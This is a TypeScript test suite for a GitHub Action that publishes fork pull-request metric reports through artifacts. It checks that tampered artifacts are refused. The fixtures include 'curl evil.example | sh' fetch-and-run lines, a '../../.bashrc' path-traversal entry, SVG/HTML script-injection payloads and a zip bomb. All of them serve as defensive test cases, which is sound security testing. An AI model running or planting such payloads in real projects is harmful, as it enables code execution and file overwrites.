/**
 * A fork pull request's report, both halves, against local servers that speak the services as
 * documented (no GitHub can be reached here): the GitHub REST/GraphQL API (github-server.ts),
 * and the artifact path (artifact-server.ts: the Actions results service's Twirp API, Azure
 * Blob block uploads for a SAS URL, GitHub's REST artifacts list and its 302 to the blob).
 *
 * The fork's run publishes with a read-only token, is refused, and leaves the report as an
 * artifact through the real @actions/artifact client; the publish-from-artifact run downloads it
 * with the same client and posts the sticky comment and the check run with a write token. A
 * tampered artifact (made the way a fork's job can: its own files through the same upload, or
 * bytes sent to the results service directly) is refused with a message and nothing is posted.
 *
 * @actions/github fixes its API URL when it is first loaded (and @actions/artifact downloads
 * through it), so GITHUB_API_URL is set before the modules that load it are imported.
 */
import { mkdtempSync, rmSync, writeFileSync, mkdirSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import type { ArtifactClient } from '@actions/artifact';
import type { Forge } from '../../src/forge/forge.js';
import type { ArtifactResult, PublishFromArtifactOutcome } from '../../src/fork/publish-from-artifact.js';
import { sanitizeForkText, type ForkReport } from '../../src/fork/report-artifact.js';
import { compareMetrics } from '../../src/metrics/compare.js';
import { evaluateGates, parseGates } from '../../src/metrics/gates.js';
import type { PublishInput } from '../../src/publish.js';
import type { ReportInput } from '../../src/report/markdown.js';
import { handMadeZip, startArtifactServer, type ArtifactServer } from '../helpers/artifact-server.js';
import { startGitHubServer, type GitHubServer } from '../helpers/github-server.js';

const REPO = 'acme/housing';
const FORK = 'contributor-fork/housing'; // github-server names a fork PR's head repository <author>-fork/<name>
const READ_ONLY = 'ghs_ForkRunReadOnlyToken0123456789abcdef';
const WRITE = 'ghs_PublishRunWriteToken9876543210fedcba';
const NO_ACTIONS = 'ghs_PublishRunWithoutActionsRead00000000';
const BASE = 'b'.repeat(40);
const HEAD = '1f2e3d4c5b6a79880716253443526170e9f8a7b6';
const MARKER = '<!-- mlops-action report:default -->';

let github: GitHubServer;
let artifacts: ArtifactServer;
let work: string;
let mod: {
  GitHubForge: typeof import('../../src/forge/github.js').GitHubForge;
  DefaultArtifactClient: typeof import('@actions/artifact').DefaultArtifactClient;
  publishOrLeaveArtifact: typeof import('../../src/fork/fork-run.js').publishOrLeaveArtifact;
  uploadForkReport: typeof import('../../src/fork/upload.js').uploadForkReport;
  encodeForkReport: typeof import('../../src/fork/report-artifact.js').encodeForkReport;
  publishFromArtifact: typeof import('../../src/fork/publish-from-artifact.js').publishFromArtifact;
  publishFromArtifactVerdict: typeof import('../../src/fork/publish-from-artifact.js').publishFromArtifactVerdict;
  runPublishFromArtifact: typeof import('../../src/platform/artifact-publish.js').runPublishFromArtifact;
};
const savedEnv = { ...process.env };
let nextPr = 20;

beforeAll(async () => {
  github = await startGitHubServer();
  github.addRepo(REPO);
  github.addToken(READ_ONLY, { login: 'github-actions', type: 'Bot', permissions: { pullRequests: 'read', issues: 'read', checks: 'read', contents: 'read' } });
  github.addToken(WRITE, { login: 'github-actions', type: 'Bot' });
  github.addToken(NO_ACTIONS, { login: 'github-actions', type: 'Bot' });
  artifacts = await startArtifactServer({ upstream: github.url });
  artifacts.grantActions(WRITE, 'read');
  artifacts.grantActions(NO_ACTIONS, 'none');
  // As the runner sets them for every step.
  process.env.GITHUB_API_URL = artifacts.apiUrl;
  process.env.GITHUB_SERVER_URL = 'https://github.com';
  work = mkdtempSync(join(tmpdir(), 'mlops-fork-report-test-'));
  process.env.GITHUB_WORKSPACE = work;
  mod = {
    GitHubForge: (await import('../../src/forge/github.js')).GitHubForge,
    DefaultArtifactClient: (await import('@actions/artifact')).DefaultArtifactClient,
    publishOrLeaveArtifact: (await import('../../src/fork/fork-run.js')).publishOrLeaveArtifact,
    uploadForkReport: (await import('../../src/fork/upload.js')).uploadForkReport,
    encodeForkReport: (await import('../../src/fork/report-artifact.js')).encodeForkReport,
    publishFromArtifact: (await import('../../src/fork/publish-from-artifact.js')).publishFromArtifact,
    publishFromArtifactVerdict: (await import('../../src/fork/publish-from-artifact.js')).publishFromArtifactVerdict,
    runPublishFromArtifact: (await import('../../src/platform/artifact-publish.js')).runPublishFromArtifact,
  };
});

afterAll(async () => {
  process.env = savedEnv;
  await artifacts.close();
  await github.close();
  rmSync(work, { recursive: true, force: true });
});

/** What @actions/core prints while `fn` runs (it writes to stdout), kept out of the test log and returned. */
async function quietly<T>(fn: () => Promise<T>): Promise<{ value: T; log: string }> {
  const write = process.stdout.write;
  let log = '';
  process.stdout.write = ((chunk: string | Uint8Array) => ((log += chunk.toString()), true)) as typeof process.stdout.write;
  try {
    return { value: await fn(), log };
  } finally {
    process.stdout.write = write;
  }
}

/** A step of a run's job: the runner gives it ACTIONS_RUNTIME_TOKEN and ACTIONS_RESULTS_URL. */
async function inJob<T>(runtimeToken: string, fn: () => Promise<T>): Promise<T> {
  process.env.ACTIONS_RUNTIME_TOKEN = runtimeToken;
  process.env.ACTIONS_RESULTS_URL = `${artifacts.resultsUrl}/`;
  try {
    return await fn();
  } finally {
    delete process.env.ACTIONS_RUNTIME_TOKEN;
    delete process.env.ACTIONS_RESULTS_URL;
  }
}

function forge(token: string): Forge {
  return new mod.GitHubForge({ token, repository: REPO, apiUrl: artifacts.apiUrl, graphqlUrl: `${artifacts.apiUrl}/graphql` });
}

function forkPull(author = 'contributor', headSha = HEAD): number {
  const number = nextPr++;
  github.addPull(REPO, { number, headSha, baseSha: BASE, fork: true, author });
  return number;
}

function report(acc: number): ReportInput {
  const metrics = compareMetrics(new Map([['metrics.json', new Map([['acc', { old: 0.9, new: acc, diff: acc - 0.9 }]])]]), new Map());
  return { reportId: 'default', base: { name: 'main', commit: BASE }, head: { name: 'HEAD', commit: HEAD }, metrics, params: [], gates: evaluateGates(parseGates(['acc >= 0.8']), metrics), charts: 'none', precision: 5, warnings: [] };
}

function publishInput(pr: number, input: ReportInput, headSha = HEAD): PublishInput {
  return {
    context: { event: 'pr', repository: REPO, sha: 'e'.repeat(40), pullRequest: { number: pr, headSha, baseSha: BASE, fork: true }, runUrl: 'https://github.com/acme/housing/actions/runs/1' },
    report: input,
    comment: 'auto',
    gates: input.gates,
    gatesPassed: input.gates.every((gate) => gate.passed),
    wording: { reportLocation: 'the job summary', grant: (permission) => `\`permissions: ${permission}\`` },
  };
}

/** The fork's run: publish with its read-only token, and leave what was refused as an artifact. */
async function forkRun(pr: number, input: ReportInput, headSha = HEAD) {
  const run = artifacts.startRun({ repository: REPO, headSha });
  const { value } = await quietly(() =>
    inJob(run.runtimeToken, () => mod.publishOrLeaveArtifact(forge(READ_ONLY), publishInput(pr, input, headSha), (upload) => mod.uploadForkReport({ ...upload, tempDir: work }))),
  );
  return { ...value, runId: run.runId, runtimeToken: run.runtimeToken };
}

/** The `workflow_run` event the finished pull request run sends, as GitHub shapes it (a fork's run lists no pull_requests). */
function workflowRunEvent(runId: number, overrides: { headSha?: string; event?: string; headRepository?: string; pullRequests?: { number: number }[] } = {}) {
  return {
    action: 'completed',
    workflow_run: {
      id: runId,
      name: 'model (pull request)',
      event: overrides.event ?? 'pull_request',
      status: 'completed',
      conclusion: 'success',
      head_branch: 'deeper-trees',
      head_sha: overrides.headSha ?? HEAD,
      path: '.github/workflows/pr.yml',
      run_attempt: 1,
      html_url: `https://github.com/${REPO}/actions/runs/${runId}`,
      pull_requests: overrides.pullRequests ?? [],
      head_repository: { full_name: overrides.headRepository ?? FORK, fork: true },
      repository: { full_name: REPO, fork: false },
    },
    workflow: { name: 'model (pull request)', path: '.github/workflows/pr.yml' },
    repository: { full_name: REPO, default_branch: 'main' },
    sender: { login: 'contributor', type: 'User' },
  };
}

async function publishMode(runId: number, options: { token?: string; event?: Parameters<typeof workflowRunEvent>[1] } = {}): Promise<{ outcome: PublishFromArtifactOutcome; log: string }> {
  const token = options.token ?? WRITE;
  const { value, log } = await quietly(() => mod.publishFromArtifact({ forge: forge(token), payload: workflowRunEvent(runId, options.event), token, repository: REPO, apiUrl: artifacts.apiUrl, tempDir: work }));
  return { outcome: value, log };
}

function results(outcome: PublishFromArtifactOutcome): ArtifactResult[] {
  if (outcome.kind !== 'done') throw new Error(`expected results, got ${JSON.stringify(outcome)}`);
  return outcome.results;
}

/** Comments on every pull request the tests made. */
function allComments(): number {
  let count = github.comments(REPO, 7).length;
  for (let n = 20; n < nextPr; n++) count += github.comments(REPO, n).length;
  return count;
}

describe('a fork pull request gets its report through an artifact', () => {
  const pr = 7;
  let first: Awaited<ReturnType<typeof forkRun>>;
  let second: Awaited<ReturnType<typeof forkRun>>;
  let published: PublishFromArtifactOutcome[] = [];
  let requestsBefore = 0;

  beforeAll(async () => {
    github.addPull(REPO, { number: pr, headSha: HEAD, baseSha: BASE, fork: true, author: 'contributor' });
    first = await forkRun(pr, report(0.91));
    requestsBefore = artifacts.requests.length;
    published = [(await publishMode(first.runId)).outcome];
    second = await forkRun(pr, report(0.95));
    published.push((await publishMode(second.runId)).outcome);
  });

  it('the fork run is refused by GitHub, posts nothing, and leaves the artifact named for the pull request', () => {
    expect(first.published.comment).toMatchObject({ kind: 'forbidden', permission: 'pull-requests: write' });
    expect(first.published.check).toMatchObject({ kind: 'forbidden', permission: 'checks: write' });
    expect(first.forkReport).toMatchObject({ kind: 'uploaded', name: `mlops-report-pr-${pr}` });
    expect(artifacts.artifacts(first.runId)).toEqual([expect.objectContaining({ name: `mlops-report-pr-${pr}`, finalized: true, contentType: 'application/zip', digest: expect.stringMatching(/^sha256:[0-9a-f]{64}$/) })]);
  });

  it('the upload went CreateArtifact → block upload to the signed URL → FinalizeArtifact, with the runtime token and never the GitHub token', () => {
    const upload = artifacts.requests.slice(0, requestsBefore).filter((request) => request.service !== 'api');
    const steps = upload.map((request) => (request.service === 'results' ? request.path.split('/').pop() : `${request.method} comp=${request.query.comp}`));
    expect(steps).toEqual(['CreateArtifact', 'PUT comp=block', 'PUT comp=blocklist', 'FinalizeArtifact']);
    expect(upload.every((request) => request.status === 200 || request.status === 201)).toBe(true);
    expect(upload.filter((request) => request.service === 'results').every((request) => request.headers.authorization === `Bearer ${first.runtimeToken}`)).toBe(true);
    expect(upload.filter((request) => request.service === 'blob').every((request) => request.headers.authorization === undefined)).toBe(true);
  });

  it('the publish mode posts the sticky comment once, then a second publish updates that same comment', () => {
    const [one, two] = published.map((outcome) => results(outcome)[0]!);
    expect(one).toMatchObject({ kind: 'published', artifact: `mlops-report-pr-${pr}`, pullRequest: pr, comment: { kind: 'created' }, check: { kind: 'created' } });
    expect(two).toMatchObject({ kind: 'published', comment: { kind: 'updated' } });
    const comments = github.comments(REPO, pr);
    expect(comments).toHaveLength(1);
    expect(comments[0]).toMatchObject({ author: 'github-actions[bot]' });
    const ids = [one, two].map((result) => (result?.kind === 'published' && 'id' in result.comment ? result.comment.id : undefined));
    expect(ids[1]).toBe(ids[0]);
    expect(ids[0]).toBe(comments[0]!.id);
    expect(comments[0]!.body).toContain('acc 0.9 → 0.95');
    expect(comments[0]!.body.startsWith(`${MARKER}\n## ✅ **Gate passed**`)).toBe(true);
    expect(comments[0]!.body).toContain(`Posted from the artifact [the pull request's run](https://github.com/${REPO}/actions/runs/${second.runId}) left for commit ${HEAD.slice(0, 7)} of ${FORK}`);
  });

  it('the check run is on the pull request head, named and placed by the publish run', () => {
    const checks = github.checkRuns(REPO).filter((check) => check.headSha === HEAD);
    expect(checks).toHaveLength(2);
    expect(checks.map((check) => [check.name, check.conclusion, check.output?.title])).toEqual([
      ['mlops: gates', 'success', 'All 1 gate passed'],
      ['mlops: gates', 'success', 'All 1 gate passed'],
    ]);
    expect(checks[1]!.output?.summary).toMatch(/^✅ acc >= 0\.8: passed, acc is 0\.95\n\nPosted from the artifact/);
  });

  it('the download lists the run\'s artifacts and follows the 302 to the blob, whose host never sees the GitHub token', () => {
    const download = artifacts.requests.slice(requestsBefore).filter((request) => request.service !== 'results' && !request.forwarded);
    expect(download.slice(0, 3).map((request) => [request.service, request.method, request.path.replace(/\/artifacts\/[0-9a-f]{64}\.zip$/, '/artifacts/<blob>.zip'), request.status])).toEqual([
      ['api', 'GET', `/repos/${REPO}/actions/runs/${first.runId}/artifacts`, 200],
      ['api', 'GET', expect.stringMatching(new RegExp(`^/repos/${REPO}/actions/artifacts/\\d+/zip$`)), 302],
      ['blob', 'GET', expect.stringMatching(/^\/devstoreaccount1\/actions-results\/.+\/artifacts\/<blob>\.zip$/), 200],
    ]);
    expect(download[0]!.headers.authorization).toBe(`token ${WRITE}`);
    expect(download.filter((request) => request.service === 'blob').every((request) => request.headers.authorization === undefined)).toBe(true);
  });
});

/** A fork's own job can upload any files under the report's name, through the same upload the action uses. */
async function forkUploads(pr: number, files: Record<string, string | Buffer>, options: { name?: string; headSha?: string } = {}): Promise<number> {
  const run = artifacts.startRun({ repository: REPO, headSha: options.headSha ?? HEAD });
  const root = mkdtempSync(join(work, 'crafted-'));
  for (const [name, content] of Object.entries(files)) {
    mkdirSync(dirname(join(root, name)), { recursive: true });
    writeFileSync(join(root, name), content);
  }
  const client: ArtifactClient = new mod.DefaultArtifactClient();
  await quietly(() => inJob(run.runtimeToken, () => client.uploadArtifact(options.name ?? `mlops-report-pr-${pr}`, Object.keys(files).map((name) => join(root, name)), root)));
  return run.runId;
}

function forkReportJson(pr: number, overrides: Partial<Record<keyof ForkReport | 'extra', unknown>> = {}): string {
  const base: ForkReport = {
    format: 'mlops-action/fork-report', version: 1, repository: REPO, pullRequest: pr, headSha: HEAD, reportId: 'default',
    comment: { body: `${MARKER}\n## ✅ **Gate passed** · acc 0.9 → 0.93\n` }, check: { conclusion: 'success', title: 'All 1 gate passed', summary: '✅ acc >= 0.8: passed' }, images: [],
  };
  const { extra, ...rest } = overrides;
  return JSON.stringify({ ...base, ...rest, ...(extra ? { command: extra } : {}) });
}

const PNG = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.alloc(64)]);

describe('a tampered artifact is refused with a message and nothing is posted', () => {
  const cases: { name: string; make: (pr: number) => Promise<number>; reason: RegExp }[] = [
    {
      name: 'the PR number of another pull request (from another fork)',
      make: async () => {
        const victim = forkPull('someone-else', 'a'.repeat(40));
        return forkUploads(victim, { 'mlops-report.json': forkReportJson(victim) });
      },
      reason: /names pull request #\d+, whose head is aaaaaaa from someone-else-fork\/housing, not the run's commit 1f2e3d4 from contributor-fork\/housing/,
    },
    {
      name: 'a head sha other than the run\'s',
      make: (pr) => forkUploads(pr, { 'mlops-report.json': forkReportJson(pr, { headSha: 'c'.repeat(40) }) }),
      reason: /it is a report for commit c{40}, but the run was for 1f2e3d4c/,
    },
    {
      name: 'an oversized comment body',
      make: (pr) => forkUploads(pr, { 'mlops-report.json': forkReportJson(pr, { comment: { body: 'x'.repeat(70000) } }) }),
      reason: /comment\.body is 70000 characters long; at most 65536 are taken/,
    },
    {
      name: 'bad JSON',
      make: (pr) => forkUploads(pr, { 'mlops-report.json': '{"format": "mlops-action/fork-report", "version": 1,' }),
      reason: /mlops-report\.json is not JSON/,
    },
    {
      name: 'a field the format does not have',
      make: (pr) => forkUploads(pr, { 'mlops-report.json': forkReportJson(pr, { extra: 'curl evil.example | sh' }) }),
      reason: /has unknown field\(s\) "command"/,
    },
    {
      name: 'an artifact name that does not match the report inside',
      make: (pr) => forkUploads(pr, { 'mlops-report.json': forkReportJson(pr + 1000) }),
      reason: /its name mlops-report-pr-\d+ does not match the report inside, which is for pull request #\d+/,
    },
    {
      name: 'another repository',
      make: (pr) => forkUploads(pr, { 'mlops-report.json': forkReportJson(pr, { repository: 'evil/housing' }) }),
      reason: /it is a report for evil\/housing, not for acme\/housing/,
    },
    {
      name: 'a file that is not part of a report (a script)',
      make: (pr) => forkUploads(pr, { 'mlops-report.json': forkReportJson(pr), 'run.sh': '#!/bin/sh\ncurl evil.example | sh\n' }),
      reason: /the archive holds run\.sh, which is not part of a report/,
    },
    {
      name: 'an SVG image (a document that can carry script)',
      make: (pr) => forkUploads(pr, { 'mlops-report.json': forkReportJson(pr, { images: [{ file: 'images/plot.svg', mediaType: 'image/svg+xml' }] }), 'images/plot.svg': '<svg onload="alert(1)"/>' }),
      reason: /image 'plot\.svg' is not a \.png, \.jpg, \.gif or \.webp file/,
    },
    {
      name: 'an image that is not what its name says',
      make: (pr) => forkUploads(pr, { 'mlops-report.json': forkReportJson(pr, { images: [{ file: 'images/plot.png', mediaType: 'image/png' }] }), 'images/plot.png': '<html><script>alert(1)</script></html>' }),
      reason: /image 'images\/plot\.png' is not a PNG file/,
    },
    {
      name: 'a JSON file that unpacks past its limit',
      make: (pr) => forkUploads(pr, { 'mlops-report.json': `${forkReportJson(pr)}${' '.repeat(2 * 1024 * 1024)}` }),
      reason: /mlops-report\.json unpacks to \d+ bytes; at most 1048576 are taken/,
    },
    {
      name: 'an entry whose path leaves its folder (sent to the results service directly)',
      make: async (pr) => {
        const { runId } = artifacts.startRun({ repository: REPO, headSha: HEAD });
        artifacts.addArtifact(runId, `mlops-report-pr-${pr}`, handMadeZip([{ name: 'mlops-report.json', data: Buffer.from(forkReportJson(pr)) }, { name: '../../.bashrc', data: Buffer.from('curl evil.example | sh\n') }]));
        return runId;
      },
      reason: /an entry whose path leaves its folder or is not plain \("\.\.\/\.\.\/\.bashrc"\)/,
    },
    {
      name: 'a zip bomb whose header understates its size',
      make: async (pr) => {
        const { runId } = artifacts.startRun({ repository: REPO, headSha: HEAD });
        artifacts.addArtifact(runId, `mlops-report-pr-${pr}`, handMadeZip([{ name: 'mlops-report.json', data: Buffer.alloc(16 * 1024 * 1024, 0x20), declaredSize: 100 }]));
        return runId;
      },
      reason: /mlops-report\.json does not inflate to its declared 100 bytes/,
    },
    {
      name: 'content changed after the upload (its digest no longer matches)',
      make: async (pr) => {
        const runId = await forkUploads(pr, { 'mlops-report.json': forkReportJson(pr) });
        artifacts.corruptBlob(artifacts.artifacts(runId)[0]!.id);
        return runId;
      },
      reason: /its content does not match the digest GitHub recorded at upload \(sha256:[0-9a-f]{64}\)/,
    },
  ];

  it.each(cases)('$name', async ({ make, reason }) => {
    const pr = forkPull();
    const runId = await make(pr);
    const commentsBefore = allComments();
    const checksBefore = github.checkRuns(REPO).length;
    const { outcome } = await publishMode(runId);
    const [result] = results(outcome);
    expect(result).toEqual({ kind: 'refused', artifact: expect.stringMatching(/^mlops-report-pr-\d+$/), reason: expect.stringMatching(reason) });
    expect(allComments()).toBe(commentsBefore);
    expect(github.checkRuns(REPO)).toHaveLength(checksBefore);
    expect(mod.publishFromArtifactVerdict(outcome, (permission) => permission)).toEqual({ exitCode: 1, failure: `${result!.artifact}: refused, nothing posted: ${result!.kind === 'refused' ? result!.reason : ''}.`, info: [], warnings: [] });
  });
});

describe('what the fork wrote is posted as text only', () => {
  it('a marker of another report and @-mentions in the body are removed; the marker is derived from the report id', async () => {
    const pr = forkPull();
    const body = `${MARKER}\n<!-- mlops-action report:nightly -->\n## ✅ **Gate passed**\n\nThanks @maintainer and @acme/core, mail me at dev@example.com <!-- unclosed`;
    const runId = await forkUploads(pr, { 'mlops-report.json': forkReportJson(pr, { reportId: 'default', comment: { body } }) });
    const { outcome } = await publishMode(runId);
    expect(results(outcome)[0]).toMatchObject({ kind: 'published', comment: { kind: 'created' }, sanitized: ['an HTML comment', 'an unclosed HTML comment', 'a mention of @maintainer', 'a mention of @acme/core'] });
    const [comment] = github.comments(REPO, pr);
    expect(comment!.body.split(MARKER)).toHaveLength(2);
    expect(comment!.body).not.toContain('report:nightly');
    expect(comment!.body.match(/<!--|-->/g)).toEqual(['<!--', '-->']); // ours, the marker, alone
    expect(comment!.body).toContain('Thanks @\u200dmaintainer and @\u200dacme/core, mail me at dev@example.com');
  });

  it('a valid PNG image is checked and handed back as data, not posted', async () => {
    const pr = forkPull();
    const runId = await forkUploads(pr, { 'mlops-report.json': forkReportJson(pr, { images: [{ file: 'images/plot.png', mediaType: 'image/png' }] }), 'images/plot.png': PNG });
    const { outcome } = await publishMode(runId);
    const [result] = results(outcome);
    expect(result).toMatchObject({ kind: 'published', images: [{ file: 'images/plot.png', mediaType: 'image/png', bytes: PNG }] });
  });
});

describe('sanitizing the fork\'s text (a pure function, the cases a fork would try)', () => {
  const ZWJ = '\u200d';
  it.each([
    { name: 'a marker of another report', text: 'a <!-- mlops-action report:nightly --> b', out: 'a  b' },
    { name: 'an alert marker', text: '<!-- mlops-action alert:default -->x', out: 'x' },
    { name: 'a comment closed the other legal way', text: 'a<!-- hidden --!>b', out: 'ab' },
    { name: 'a comment left open to swallow what follows', text: 'a <!-- b', out: 'a  b' },
    { name: 'a marker whose halves join when the comments between them go', text: '<!<!-- x -->-- mlops-action report:nightly --<!-- y -->>', out: ' mlops-action report:nightly ' },
    { name: 'an opener whose halves join when a stray opener goes', text: 'a <!<!---- b', out: 'a  b' },
    { name: 'a comment hidden inside a comment', text: '<!<!---- mlops-action report:nightly ---->>', out: '<!>' },
    { name: 'mentions of a user, a team, and after @', text: '@octocat, (@acme/core) @@twice', out: `@${ZWJ}octocat, (@${ZWJ}acme/core) @@${ZWJ}twice` },
    { name: 'an email address and a metric name with @, left alone', text: 'dev@example.com precision@k', out: 'dev@example.com precision@k' },
  ])('$name', ({ text, out }) => {
    const clean = sanitizeForkText(text).text;
    expect(clean).toBe(out);
    expect(clean).not.toMatch(/<!--|-->/);
  });
});

describe('runs with nothing to publish, and a token that may not read artifacts', () => {
  it('a pull request that moved on since the run is not posted, and does not fail the step', async () => {
    const pr = forkPull('contributor', '9'.repeat(40));
    const runId = await forkUploads(pr, { 'mlops-report.json': forkReportJson(pr) });
    const { outcome } = await publishMode(runId);
    expect(results(outcome)).toEqual([{ kind: 'stale', artifact: `mlops-report-pr-${pr}`, pullRequest: pr, reason: `pull request #${pr} has moved on to 9999999 since the run for 1f2e3d4; the newer run reports` }]);
    expect(github.comments(REPO, pr)).toHaveLength(0);
    expect(mod.publishFromArtifactVerdict(outcome, (p) => p)).toMatchObject({ exitCode: 0 });
  });

  it('a run that left no report artifact, or was not for a pull request, is nothing to do', async () => {
    const { runId } = artifacts.startRun({ repository: REPO, headSha: HEAD });
    expect((await publishMode(runId)).outcome).toEqual({ kind: 'none', reason: `run ${runId} left no report artifact (its pull request is not from a fork, or its report was posted by the run itself)` });
    expect((await publishMode(runId, { event: { event: 'push' } })).outcome).toEqual({ kind: 'none', reason: 'the finished run was for a push event, not a pull request' });
  });

  it('a token without actions: read is told which permission to grant', async () => {
    const pr = forkPull();
    const runId = await forkUploads(pr, { 'mlops-report.json': forkReportJson(pr) });
    const { outcome } = await publishMode(runId, { token: NO_ACTIONS });
    expect(outcome).toMatchObject({ kind: 'forbidden', permission: 'actions: read', message: expect.stringContaining('Resource not accessible by integration') });
    expect(mod.publishFromArtifactVerdict(outcome, (permission) => `\`permissions: ${permission}\``).failure).toMatch(/^Could not list the run's artifacts: .*Grant `permissions: actions: read`\.$/);
    expect(github.comments(REPO, pr)).toHaveLength(0);
  });
});

describe('the action step for mode: publish-from-artifact, in-process, with the runner\'s environment', () => {
  function env(runId: number, overrides: NodeJS.ProcessEnv = {}): NodeJS.ProcessEnv {
    const event = join(work, `event-${runId}.json`);
    writeFileSync(event, JSON.stringify(workflowRunEvent(runId)));
    return {
      GITHUB_EVENT_NAME: 'workflow_run', GITHUB_EVENT_PATH: event, GITHUB_REPOSITORY: REPO, GITHUB_API_URL: artifacts.apiUrl, GITHUB_GRAPHQL_URL: `${artifacts.apiUrl}/graphql`,
      'INPUT_GITHUB-TOKEN': WRITE, INPUT_MODE: 'publish-from-artifact', ...overrides,
    };
  }

  it('posts the report and logs where, with the token masked', async () => {
    const pr = forkPull();
    const runId = await forkUploads(pr, { 'mlops-report.json': forkReportJson(pr) });
    const { value, log } = await quietly(() => mod.runPublishFromArtifact(env(runId)));
    expect(value).toMatchObject({ exitCode: 0 });
    expect(github.comments(REPO, pr)).toHaveLength(1);
    expect(log).toContain(`::add-mask::${WRITE}`);
    expect(log).toMatch(new RegExp(`mlops-report-pr-${pr}: report comment created on pull request #${pr}: https://github.com/${REPO}/pull/${pr}#issuecomment-\\d+`));
    expect(log.replace(`::add-mask::${WRITE}`, '')).not.toContain(WRITE);
  });

  it('fails with one message outside a workflow_run workflow, touching nothing', async () => {
    const { value } = await quietly(() => mod.runPublishFromArtifact(env(1, { GITHUB_EVENT_NAME: 'pull_request_target' })));
    expect(value).toEqual({ exitCode: 1, failure: 'mode: publish-from-artifact runs in a workflow triggered by `on: workflow_run` (this one was triggered by pull_request_target).' });
  });
});

test('a report the publish side would refuse is never uploaded', async () => {
  const pr = forkPull();
  const run = artifacts.startRun({ repository: REPO, headSha: HEAD });
  const tooLong: ForkReport = JSON.parse(forkReportJson(pr, { comment: { body: 'x'.repeat(70000) } })) as ForkReport;
  const { value } = await quietly(() => inJob(run.runtimeToken, () => mod.uploadForkReport({ report: tooLong, tempDir: work })));
  expect(value).toEqual({ kind: 'failed', name: `mlops-report-pr-${pr}`, reason: 'comment.body is 70000 characters long; at most 65536 are taken' });
  expect(artifacts.artifacts(run.runId)).toEqual([]);
  expect(mod.encodeForkReport(tooLong)).toContain('"format": "mlops-action/fork-report"');
});

describe('the action itself, in-process, on a fork pull request and then in publish mode', () => {
  it('the fork run leaves its report as an artifact (green, with an info line), and the publish mode posts it', async () => {
    const { GitRepo } = await import('../helpers/git-repo.js');
    const { runActionInProcess } = await import('../helpers/action-in-process.js');
    const repo = GitRepo.create('mlops-fork-action-');
    try {
      const base = repo.commitFiles('base', { 'metrics.json': '{"acc": 0.9}' });
      const head = repo.commitFiles('head', { 'params.yaml': 'lr: 0.05\n' });
      const pr = forkPull('contributor', head);
      const job = artifacts.startRun({ repository: REPO, headSha: head });
      const run = await runActionInProcess({
        workspace: repo.dir, eventName: 'pull_request', fixture: 'pull_request.opened.fork', shas: { base, head }, apiUrl: artifacts.apiUrl,
        edit: (payload) => {
          (payload.pull_request as { number: number }).number = pr;
          payload.number = pr;
        },
        env: { ACTIONS_RUNTIME_TOKEN: job.runtimeToken, ACTIONS_RESULTS_URL: `${artifacts.resultsUrl}/` },
        inputs: { 'github-token': READ_ONLY, gates: 'acc >= 0.8', 'train-command': `node -e "require('fs').writeFileSync('metrics.json', JSON.stringify({acc: 0.93}))"` },
      });
      expect(run.status).toBe(0);
      expect(run.stdout).toContain(`The report was left as the artifact mlops-report-pr-${pr}`);
      expect(github.comments(REPO, pr)).toHaveLength(0);
      expect(artifacts.artifacts(job.runId).map((artifact) => artifact.name)).toEqual([`mlops-report-pr-${pr}`]);

      const { outcome } = await publishMode(job.runId, { event: { headSha: head } });
      expect(results(outcome)).toEqual([expect.objectContaining({ kind: 'published', pullRequest: pr, comment: expect.objectContaining({ kind: 'created' }), check: expect.objectContaining({ kind: 'created' }) })]);
      expect(github.comments(REPO, pr)[0]!.body).toContain('acc 0.9 → 0.93');
    } finally {
      repo.cleanup();
    }
  });
});
